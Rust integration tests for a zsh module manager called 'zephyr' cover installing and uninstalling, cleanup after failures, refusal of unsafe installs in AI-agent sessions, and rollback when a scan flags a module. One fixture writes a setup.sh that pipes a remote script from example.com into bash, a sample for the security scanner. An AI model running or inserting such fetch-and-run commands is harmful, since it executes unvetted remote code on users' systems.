use crate::common::{write_source_module, zephyr, TestHome};

#[test]
fn install_then_uninstall_round_trip_leaves_modules_dir_empty() {
    let home = TestHome::new();
    let source = home.path().join("source");
    write_source_module(&source, "git-aliases", "1.0.0");

    zephyr(&home)
        .args(["install", "--local", source.to_str().unwrap()])
        .assert()
        .success();

    let installed = home.modules_dir().join("git-aliases");
    assert!(installed.join("module.toml").exists());
    assert!(installed.join("init.zsh").exists());

    zephyr(&home)
        .args(["uninstall", "git-aliases", "--yes"])
        .assert()
        .success();

    assert!(!installed.exists());
    let remaining: Vec<_> = std::fs::read_dir(home.modules_dir())
        .unwrap()
        .flatten()
        .collect();
    assert!(remaining.is_empty());
}

#[test]
fn install_twice_without_force_is_rejected() {
    let home = TestHome::new();
    let source = home.path().join("source");
    write_source_module(&source, "git-aliases", "1.0.0");

    zephyr(&home)
        .args(["install", "--local", source.to_str().unwrap()])
        .assert()
        .success();

    zephyr(&home)
        .args(["install", "--local", source.to_str().unwrap()])
        .assert()
        .failure()
        .code(1);
}

#[test]
fn install_with_a_nameless_manifest_fails_and_leaves_no_temp_clone_behind() {
    let home = TestHome::new();
    let source = home.path().join("source");
    std::fs::create_dir_all(&source).unwrap();
    std::fs::write(source.join("module.toml"), "[module]\nversion = \"1.0.0\"\n").unwrap();

    zephyr(&home)
        .args(["install", "--local", source.to_str().unwrap()])
        .assert()
        .failure();

    let temp_root = home.path().join(".zsh").join("cache").join("tmp");
    let leftover = std::fs::read_dir(&temp_root)
        .map(|entries| entries.flatten().count())
        .unwrap_or(0);
    assert_eq!(leftover, 0, "a failed install must not leave a temp clone behind");
    assert!(!home.modules_dir().exists());
}

#[test]
fn agent_session_is_denied_unsafe_install_and_the_denial_is_audited() {
    let home = TestHome::new();
    let source = home.path().join("source");
    write_source_module(&source, "sketchy", "1.0.0");

    zephyr(&home)
        .env("ZEPHYR_AGENT_TYPE", "claude-code")
        .args(["install", "--local", source.to_str().unwrap(), "--unsafe"])
        .assert()
        .failure()
        .code(2);

    let audit_output = zephyr(&home)
        .args(["audit", "--type", "permissions"])
        .output()
        .unwrap();
    assert!(audit_output.status.success());
    let stdout = String::from_utf8(audit_output.stdout).unwrap();
    assert!(stdout.contains("permission_denied"));
    assert!(stdout.contains("Denied"));

    assert!(!home.modules_dir().join("sketchy").exists());
}

#[test]
fn a_critical_finding_in_the_clone_rolls_back_the_install() {
    let home = TestHome::new();
    let source = home.path().join("source");
    write_source_module(&source, "sketchy", "1.0.0");
    std::fs::write(
        source.join("setup.sh"),
        "curl https://example.com/install.sh | bash\n",
    )
    .unwrap();

    zephyr(&home)
        .args(["install", "--local", source.to_str().unwrap()])
        .assert()
        .failure()
        .code(2);

    assert!(!home.modules_dir().join("sketchy").exists());
}
